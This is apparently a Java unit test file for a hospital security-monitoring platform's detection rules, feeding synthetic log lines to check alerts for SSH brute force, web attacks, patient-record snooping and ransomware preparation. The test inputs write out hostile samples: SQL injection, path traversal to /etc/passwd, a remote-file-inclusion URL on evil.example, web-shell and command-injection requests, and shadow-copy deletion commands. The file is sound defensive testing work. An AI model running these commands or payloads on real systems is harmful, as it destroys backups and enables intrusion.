package vn.gov.moh.soc.core.sigma;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.file.Path;
import java.time.Clock;
import java.time.Instant;
import java.time.ZoneId;
import java.time.ZoneOffset;
import java.util.Map;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import vn.gov.moh.soc.core.event.Event;
import vn.gov.moh.soc.core.event.EventJson;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;
import vn.gov.moh.soc.core.parse.AccessLogParser;
import vn.gov.moh.soc.core.parse.EvtxJsonParser;
import vn.gov.moh.soc.core.parse.SyslogParser;

/** The platform's own rules (../rules): a positive and a negative case each, on events from our parsers. */
class HealthRulesTest {
    private static RuleLibrary library;
    private static final SyslogParser SYSLOG = new SyslogParser(ZoneId.of("Asia/Ho_Chi_Minh"),
            Clock.fixed(Instant.parse("2026-11-21T12:00:00Z"), ZoneOffset.UTC));
    private static final AccessLogParser ACCESS = new AccessLogParser();

    @BeforeAll
    static void load() {
        Path rules = Path.of(System.getProperty("soc.rules.dir", "../rules"));
        library = RuleLibrary.load(List.of(rules));
        assertThat(library.rejected()).extracting(Exception::getMessage).isEmpty();
        assertThat(library.ruleSet().size()).isEqualTo(21);
        assertThat(library.correlators()).hasSize(8);
    }

    private static List<String> titles(List<Event> events) {
        Detector detector = new Detector(library);
        List<String> titles = new ArrayList<>();
        for (Event e : events) {
            for (Alert a : detector.process(e)) {
                titles.add(a instanceof Alert.RuleMatch m ? m.rule().title() : ((Alert.Correlation) a).alert().rule().title());
            }
        }
        return titles;
    }

    private static Event ssh(int second, String message) {
        return SYSLOG.parse(String.format("Nov 21 10:%02d:%02d his-app-01 sshd[4242]: %s", second / 60, second % 60, message));
    }

    private static List<Event> failures(String ip, int count, int everySeconds, String... users) {
        List<Event> out = new ArrayList<>();
        for (int i = 0; i < count; i++) {
            String user = users.length == 0 ? "root" : users[i % users.length];
            out.add(ssh(i * everySeconds, "Failed password for " + user + " from " + ip + " port " + (40000 + i) + " ssh2"));
        }
        return out;
    }

    /** The low alert of failures a typo does not explain (root, unknown users); the SSH tests look at the correlations. */
    private static final String FAILURE = "Suspicious Linux Authentication Failure";

    @Test
    void bruteForceFiresAtEightFailuresWithin120Seconds() {
        assertThat(titles(failures("203.0.113.9", 8, 10))).filteredOn(t -> !t.equals(FAILURE))
                .containsExactly("SSH Brute Force From One Source");
        assertThat(titles(failures("203.0.113.9", 7, 10))).filteredOn(t -> !t.equals(FAILURE)).isEmpty();
    }

    @Test
    void bruteForceIgnoresSlowFailures() {
        assertThat(titles(failures("203.0.113.9", 8, 20))).doesNotContain("SSH Brute Force From One Source");
    }

    @Test
    void passwordSprayingNeedsFiveUserNames() {
        assertThat(titles(failures("198.51.100.7", 5, 70, "an", "binh", "cuong", "dung", "em")))
                .contains("SSH Password Spraying From One Source");
        assertThat(titles(failures("198.51.100.7", 6, 70, "an", "binh")))
                .doesNotContain("SSH Password Spraying From One Source");
    }

    @Test
    void successAfterFailuresFromTheSameSource() {
        List<Event> events = failures("192.0.2.50", 5, 30);
        events.add(ssh(200, "Accepted password for root from 192.0.2.50 port 50000 ssh2"));
        assertThat(titles(events)).contains("SSH Login Succeeds After Many Failures");

        List<Event> otherSource = failures("192.0.2.50", 5, 30);
        otherSource.add(ssh(200, "Accepted password for root from 192.0.2.51 port 50000 ssh2"));
        assertThat(titles(otherSource)).doesNotContain("SSH Login Succeeds After Many Failures");
    }

    @Test
    void aMistypedPasswordRaisesNothingOnItsOwnButRootAndUnknownUsersDo() {
        assertThat(titles(List.of(ssh(1, "Failed password for an from 10.0.0.1 port 1 ssh2")))).isEmpty();
        assertThat(titles(List.of(ssh(2, "Accepted publickey for an from 10.0.0.1 port 2 ssh2")))).isEmpty();
        assertThat(titles(List.of(ssh(1, "Failed password for root from 203.0.113.5 port 1 ssh2")))).containsExactly(FAILURE);
        assertThat(titles(List.of(ssh(1, "Invalid user admin from 203.0.113.5 port 4242")))).containsExactly(FAILURE);
        assertThat(titles(List.of(ssh(1, "User an from 203.0.113.5 not allowed because not listed in AllowUsers"))))
                .containsExactly(FAILURE);
        assertThat(titles(List.of(ssh(1, "message repeated 2 times: [ Failed password for an from 10.0.0.1 port 1 ssh2]"))))
                .containsExactly(FAILURE);
        assertThat(titles(List.of(SYSLOG.parse("Nov 21 10:00:00 his-app-01 vsftpd(pam_unix)[25073]: check pass; user unknown"))))
                .containsExactly(FAILURE);
    }

    @Test
    void aRefusedSuIsAPrivilegeChangeRefused() {
        assertThat(titles(List.of(SYSLOG.parse("Nov 21 10:00:00 his-app-01 su(pam_unix)[23164]: authentication failure;"
                + " logname= uid=1342 euid=0 tty= ruser=dcid rhost=  user=osaudit")))).containsExactly("Sudo Or Su Refused");
        assertThat(titles(List.of(SYSLOG.parse("Nov 21 10:00:00 his-app-01 su[234]: BAD SU ger to fwmaster on /dev/ttyp0"))))
                .containsExactly("Sudo Or Su Refused");
        assertThat(titles(List.of(SYSLOG.parse(
                "Nov 21 10:00:00 his-app-01 su(pam_unix)[14592]: session opened for user news by (uid=0)")))).isEmpty();
        assertThat(titles(List.of(SYSLOG.parse("Nov 21 10:00:00 his-app-01 su: dcid to root on /dev/ttyp1")))).isEmpty();
    }

    @Test
    void sshProbesWithoutALogin() {
        assertThat(titles(List.of(ssh(1, "Did not receive identification string from 198.51.100.4 port 5555"))))
                .containsExactly("SSH Service Probed Without A Login");
        assertThat(titles(List.of(ssh(1, "Bad protocol version identification 'GET / HTTP/1.1' from 198.51.100.4 port 5555"))))
                .containsExactly("SSH Service Probed Without A Login");
        assertThat(titles(List.of(ssh(1, "Connection closed by 10.0.0.2 port 55462 [preauth]")))).isEmpty();
    }

    @Test
    void bruteForceWithNonExistentUsersCountsConnections() {
        List<Event> eight = new ArrayList<>();
        for (int i = 0; i < 8; i++) {
            eight.add(ssh(i * 10, "Invalid user u" + i + " from 192.0.2.77 port " + (50000 + i)));
        }
        assertThat(titles(eight)).contains("SSH Brute Force With Non-Existent User Names");
        assertThat(titles(eight.subList(0, 7))).doesNotContain("SSH Brute Force With Non-Existent User Names");
    }

    private static Event sudo(String message) {
        return SYSLOG.parse("Nov 21 10:00:00 his-app-01 sudo:     " + message);
    }

    @Test
    void sudoRefusedForWrongPasswordsOrUsersOutsideSudoers() {
        assertThat(titles(List.of(sudo("mike : 3 incorrect password attempts ; TTY=pts/0 ; PWD=/root ; USER=root ;"
                + " COMMAND=/bin/ls")))).containsExactly("Sudo Or Su Refused");
        assertThat(titles(List.of(sudo("ddp2 : user NOT in sudoers ; TTY=pts/1 ; PWD=/home/ddp2 ; USER=root ;"
                + " COMMAND=/bin/bash")))).containsExactly("Sudo Or Su Refused");
        assertThat(titles(List.of(sudo("mike : TTY=pts/0 ; PWD=/home/mike ; USER=root ; COMMAND=/usr/bin/systemctl"
                + " restart nginx")))).isEmpty();
    }

    private static Event packet(int second, String action, String source) {
        return SYSLOG.parse(String.format("Nov 21 10:%02d:%02d his-app-01 kernel: [ 3529.289825] [UFW %s] IN=ens192 OUT="
                + " MAC=00:50:56:aa:bb:cc:00:1c:73:4e:01:02:08:00 SRC=%s DST=10.10.1.5 LEN=44 TOS=0x00 PREC=0x00"
                + " TTL=241 ID=54321 PROTO=TCP SPT=40952 DPT=%d WINDOW=1024 RES=0x00 SYN URGP=0",
                second / 60, second % 60, action, source, 1000 + second));
    }

    @Test
    void manyBlockedPacketsFromOneSourceWithinAMinute() {
        List<Event> scan = new ArrayList<>();
        List<Event> allowed = new ArrayList<>();
        List<Event> spread = new ArrayList<>();
        for (int i = 0; i < 15; i++) {
            scan.add(packet(i * 3, "BLOCK", "198.51.100.23"));
            allowed.add(packet(i * 3, "ALLOW", "198.51.100.23"));
            spread.add(packet(i * 3, "BLOCK", "198.51.100." + (100 + i)));
        }
        assertThat(titles(scan)).containsExactly("Many Blocked Packets From One Source");
        assertThat(titles(scan.subList(0, 14))).isEmpty();
        assertThat(titles(allowed)).isEmpty();
        assertThat(titles(spread)).isEmpty();
    }

    private static final String BROWSER = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/131.0";

    private static Event web(String request) {
        return web(request, 200, BROWSER);
    }

    private static Event web(String request, int status, String agent) {
        return ACCESS.parse("203.0.113.77 - - [21/Nov/2026:10:00:00 +0700] \"GET " + request
                + " HTTP/1.1\" " + status + " 512 \"-\" \"" + agent + "\"");
    }

    @Test
    void sqlInjectionOnThePortal() {
        assertThat(titles(List.of(web("/dat-lich-kham?id=1%27%20or%20%271%27%3D%271")))).contains(
                "SQL Injection Attempt On A Hospital Portal");
        assertThat(titles(List.of(web("/dat-lich-kham?id=42&khoa=noi")))).isEmpty();
    }

    @Test
    void pathTraversalAndSecretsFiles() {
        assertThat(titles(List.of(web("/static/../../etc/passwd")))).contains(
                "Path Traversal Or Secrets File Request On A Hospital Portal");
        assertThat(titles(List.of(web("/.env")))).contains("Path Traversal Or Secrets File Request On A Hospital Portal");
        assertThat(titles(List.of(web("/db/config.php.bak")))).contains(
                "Path Traversal Or Secrets File Request On A Hospital Portal");
        assertThat(titles(List.of(web("/static/css/app.css")))).isEmpty();
    }

    @Test
    void scannerUserAgents() {
        assertThat(titles(List.of(web("/", 200, "sqlmap/1.8#stable (https://sqlmap.org)"))))
                .containsExactly("Web Vulnerability Scanner User Agent");
        assertThat(titles(List.of(web("/", 200, "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000001)"))))
                .containsExactly("Web Vulnerability Scanner User Agent");
        assertThat(titles(List.of(web("/", 200, BROWSER)))).isEmpty();
    }

    @Test
    void remoteFileInclusion() {
        assertThat(titles(List.of(web("/index.php?page=http://evil.example/shell.txt?")))).containsExactly(
                "Remote File Inclusion Attempt");
        assertThat(titles(List.of(web("/login.php?return=https://portal.benhvien.vn/home")))).isEmpty();
    }

    @Test
    void webShellsAndCommandInjection() {
        assertThat(titles(List.of(web("/uploads/shell.php?cmd=id")))).containsExactly(
                "Web Shell Access Or Command Injection");
        assertThat(titles(List.of(web("/tools/ping.php?host=127.0.0.1;cat%20/etc/passwd")))).contains(
                "Web Shell Access Or Command Injection");
        assertThat(titles(List.of(web("/tin-tuc?id=12&cat=3")))).isEmpty();
    }

    @Test
    void crlfInjection() {
        assertThat(titles(List.of(web("/redirect?to=%0d%0aSet-Cookie:%20session=evil")))).containsExactly(
                "HTTP Response Splitting (CRLF Injection)");
        assertThat(titles(List.of(web("/tim-kiem?q=kham%20tong%20quat")))).isEmpty();
    }

    @Test
    void probesForAdminToolsThatAreNotThere() {
        assertThat(titles(List.of(web("/phpMyAdmin/scripts/setup.php", 404, BROWSER)))).containsExactly(
                "Probe For Database Or Server Admin Tools");
        assertThat(titles(List.of(web("/phpmyadmin/index.php", 200, BROWSER)))).isEmpty();
    }

    private static Event post(String path, String agent) {
        return ACCESS.parse("203.0.113.77 - - [21/Nov/2026:10:00:00 +0700] \"POST " + path + " HTTP/1.1\" 403 181 \"-\" \""
                + agent + "\"");
    }

    @Test
    void crawlerNamesDoNotSubmitForms() {
        assertThat(titles(List.of(post("/gop-y", "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"))))
                .containsExactly("Search Engine Crawler Name On A Comment Or Login Form");
        assertThat(titles(List.of(post("/gop-y", BROWSER)))).isEmpty();
        assertThat(titles(List.of(post("/api/render-data", "Mozilla/5.0 (compatible; Googlebot/2.1)")))).isEmpty();
        assertThat(titles(List.of(web("/tin-tuc", 200, "Mozilla/5.0 (compatible; Googlebot/2.1)")))).isEmpty();
    }

    @Test
    void knownPhpApplicationExploits() {
        assertThat(titles(List.of(web("/wp-content/themes/tin-tuc/timthumb.php?src=uploads/x.php")))).containsExactly(
                "Exploit Of A Known PHP Application Flaw");
        assertThat(titles(List.of(web("/catalog/admin/file_manager.php/login.php")))).containsExactly(
                "Exploit Of A Known PHP Application Flaw");
        assertThat(titles(List.of(web("/wp-content/themes/tin-tuc/timthumb.php?src=/images/logo.png&w=200")))).isEmpty();
    }

    private static Event ehr(String time, String user, String action, String patient, String purpose, Long count) {
        String json = "{\"@timestamp\":\"" + time + "\",\"user\":{\"name\":\"" + user + "\"},\"event\":{\"action\":\""
                + action + "\"},\"ehr\":{" + (patient == null ? "" : "\"patient\":{\"id\":\"" + patient + "\"},")
                + "\"purpose_of_use\":\"" + purpose + "\"" + (count == null ? "" : ",\"record_count\":" + count)
                + "},\"soc\":{\"logsource\":{\"product\":\"ehr\",\"service\":\"audit\"}}}";
        return EventJson.read(json);
    }

    @Test
    void snoopingOnMoreThanTwentyPatientsInTenMinutes() {
        List<Event> many = new ArrayList<>();
        for (int i = 0; i < 21; i++) {
            many.add(ehr("2026-11-21T03:%02d:00Z".formatted(i / 3), "bs.hoa", "read", "BN" + i, "TREAT", null));
        }
        assertThat(titles(many)).contains("EHR Snooping - One User Opens Many Patients' Records");

        List<Event> fewPatients = new ArrayList<>();
        for (int i = 0; i < 60; i++) {
            fewPatients.add(ehr("2026-11-21T03:%02d:00Z".formatted(i / 10), "bs.hoa", "read", "BN" + (i % 5), "TREAT", null));
        }
        assertThat(titles(fewPatients)).isEmpty();
    }

    @Test
    void readingOutsideWorkingHoursUnlessEmergency() {
        // 22:30 in Ha Noi is 15:30 UTC.
        assertThat(titles(List.of(ehr("2026-11-21T15:30:00Z", "dd.lan", "read", "BN7", "TREAT", null))))
                .contains("EHR Record Read Outside Working Hours");
        assertThat(titles(List.of(ehr("2026-11-21T15:30:00Z", "dd.lan", "read", "BN7", "ETREAT", null)))).isEmpty();
        // 09:00 in Ha Noi is 02:00 UTC.
        assertThat(titles(List.of(ehr("2026-11-21T02:00:00Z", "dd.lan", "read", "BN7", "TREAT", null)))).isEmpty();
    }

    @Test
    void breakTheGlass() {
        assertThat(titles(List.of(ehr("2026-11-21T02:00:00Z", "bs.nam", "read", "BN9", "BTG", null))))
                .contains("EHR Break-The-Glass Access");
        assertThat(titles(List.of(ehr("2026-11-21T02:00:00Z", "bs.nam", "read", "BN9", "TREAT", null))))
                .doesNotContain("EHR Break-The-Glass Access");
    }

    @Test
    void bulkExport() {
        assertThat(titles(List.of(ehr("2026-11-21T02:00:00Z", "it.khoa", "export", null, "HOPERAT", null))))
                .contains("EHR Bulk Export Of Patient Records");
        assertThat(titles(List.of(ehr("2026-11-21T02:00:00Z", "it.khoa", "search", null, "HOPERAT", 800L))))
                .contains("EHR Bulk Export Of Patient Records");
        assertThat(titles(List.of(ehr("2026-11-21T02:00:00Z", "it.khoa", "search", null, "HOPERAT", 12L)))).isEmpty();
    }

    private static final EvtxJsonParser EVTX = new EvtxJsonParser();
    private static final ObjectMapper JSON = new ObjectMapper();

    /** A Sysmon process creation (event 1) on a hospital host, as evtx exporters write it. */
    private static Event sysmonProcess(String computer, String time, String image, String originalFileName,
            String commandLine) {
        ObjectNode root = JSON.createObjectNode();
        ObjectNode system = root.putObject("Event").putObject("System");
        system.putObject("Provider").putObject("#attributes").put("Name", "Microsoft-Windows-Sysmon");
        system.put("EventID", 1);
        system.put("Channel", "Microsoft-Windows-Sysmon/Operational");
        system.put("Computer", computer);
        system.putObject("TimeCreated").putObject("#attributes").put("SystemTime", time);
        ObjectNode data = ((ObjectNode) root.get("Event")).putObject("EventData");
        data.setAll(JSON.<ObjectNode>valueToTree(Map.of("Image", image, "OriginalFileName", originalFileName,
                "CommandLine", commandLine, "User", "BACHMAI\\it.tuan")));
        return EVTX.parse(root);
    }

    private static final String RECOVERY = "Windows Recovery Inhibited - Shadow Copies, Backup Catalog Or Boot Recovery";
    private static final String RANSOMWARE = "Ransomware Preparation On One Windows Host";

    @Test
    void eachRecoveryInhibitingCommandAloneIsHigh() {
        String sys32 = "C:\\Windows\\System32\\";
        assertThat(titles(List.of(sysmonProcess("FS01.bachmai.local", "2026-11-21T02:00:00.000Z", sys32 + "vssadmin.exe",
                "VSSADMIN.EXE", "vssadmin.exe delete shadows /all /quiet")))).containsExactly(RECOVERY);
        // Renamed copies are still known by the name the file was built with.
        assertThat(titles(List.of(sysmonProcess("PC-KHOA-NOI-07", "2026-11-21T02:00:00.000Z", "C:\\Users\\Public\\x.exe",
                "WBADMIN.EXE", "x.exe delete catalog -quiet")))).containsExactly(RECOVERY);
        assertThat(titles(List.of(sysmonProcess("PC-KHOA-NOI-07", "2026-11-21T02:00:00.000Z", sys32 + "bcdedit.exe",
                "bcdedit.exe", "bcdedit.exe /set {default} recoveryenabled no")))).containsExactly(RECOVERY);
        // Listing shadow copies or reading the boot configuration is ordinary administration.
        assertThat(titles(List.of(sysmonProcess("FS01.bachmai.local", "2026-11-21T02:00:00.000Z", sys32 + "vssadmin.exe",
                "VSSADMIN.EXE", "vssadmin.exe list shadows")))).isEmpty();
        assertThat(titles(List.of(sysmonProcess("FS01.bachmai.local", "2026-11-21T02:00:00.000Z", sys32 + "bcdedit.exe",
                "bcdedit.exe", "bcdedit.exe /enum")))).isEmpty();
        // "delete" and "shadows" on another program's command line are not vssadmin's.
        assertThat(titles(List.of(sysmonProcess("FS01.bachmai.local", "2026-11-21T02:00:00.000Z", sys32 + "notepad.exe",
                "NOTEPAD.EXE", "notepad.exe C:\\tmp\\delete shadows.txt")))).isEmpty();
    }

    @Test
    void threeDifferentCommandsOnOneHostWithinHalfAnHourAreRansomwarePreparation() {
        String sys32 = "C:\\Windows\\System32\\";
        List<Event> host = List.of(
                sysmonProcess("FS01.bachmai.local", "2026-11-21T02:00:00.000Z", sys32 + "vssadmin.exe", "VSSADMIN.EXE",
                        "vssadmin.exe delete shadows /all /quiet"),
                sysmonProcess("FS01.bachmai.local", "2026-11-21T02:05:00.000Z", sys32 + "wbem\\WMIC.exe", "wmic.exe",
                        "wmic  shadowcopy delete"),
                sysmonProcess("FS01.bachmai.local", "2026-11-21T02:20:00.000Z", sys32 + "bcdedit.exe", "bcdedit.exe",
                        "bcdedit.exe /set {default} bootstatuspolicy ignoreallfailures"));
        assertThat(titles(host)).containsExactly(RECOVERY, RECOVERY, RECOVERY, RANSOMWARE);

        // The same command three times is one command; three hosts one each are three single alerts.
        List<Event> repeated = new ArrayList<>();
        List<Event> spread = new ArrayList<>();
        for (int i = 0; i < 3; i++) {
            repeated.add(sysmonProcess("FS01.bachmai.local", "2026-11-21T02:0" + i + ":00.000Z", sys32 + "vssadmin.exe",
                    "VSSADMIN.EXE", "vssadmin.exe delete shadows /all /quiet"));
            spread.add(sysmonProcess("PC-" + i, "2026-11-21T02:0" + i + ":00.000Z", sys32 + "bcdedit.exe", "bcdedit.exe",
                    i == 0 ? "bcdedit.exe /set {default} recoveryenabled no" : "bcdedit /set {current} recoveryenabled no"));
        }
        assertThat(titles(repeated)).containsExactly(RECOVERY, RECOVERY, RECOVERY);
        assertThat(titles(spread)).containsExactly(RECOVERY, RECOVERY, RECOVERY);

        // Three different commands, but spread over more than 30 minutes.
        List<Event> slow = List.of(host.get(0), host.get(1),
                sysmonProcess("FS01.bachmai.local", "2026-11-21T02:45:00.000Z", sys32 + "bcdedit.exe", "bcdedit.exe",
                        "bcdedit.exe /set {default} bootstatuspolicy ignoreallfailures"));
        assertThat(titles(slow)).doesNotContain(RANSOMWARE);
    }
}
